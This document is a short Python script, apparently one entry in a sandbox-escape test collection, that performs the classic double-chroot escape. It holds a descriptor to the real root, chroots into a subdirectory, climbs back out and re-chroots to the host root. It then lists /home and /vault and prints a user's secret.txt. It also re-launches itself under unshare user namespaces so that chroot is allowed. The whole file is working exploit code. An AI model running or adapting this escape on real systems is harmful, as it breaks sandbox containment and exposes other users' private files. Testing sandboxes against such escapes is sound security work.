#!/usr/bin/env python3
# title: the classic double chroot
# door: any
"""A second chroot with a working directory outside of it, then up."""

import os
import sys


def attack():
    os.makedirs("inner", exist_ok=True)
    up = os.open("/", os.O_RDONLY)
    try:
        os.chroot("inner")
    except OSError as error:
        print(f"chroot: {error.strerror}")
        return
    os.fchdir(up)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    for place in ("/home", "/vault"):
        try:
            print(*os.listdir(place), sep="\n")
            print(open(f"{place}/alice/secret.txt").read())
        except OSError:
            pass


if len(sys.argv) > 1:
    attack()
else:
    print("tried: chroot", flush=True)
    attack()
    sys.stdout.flush()
    for options in ("-r", "-Ur", "-Urm"):
        os.system(f"unshare {options} python3 '{sys.argv[0]}' inside 2>&1")
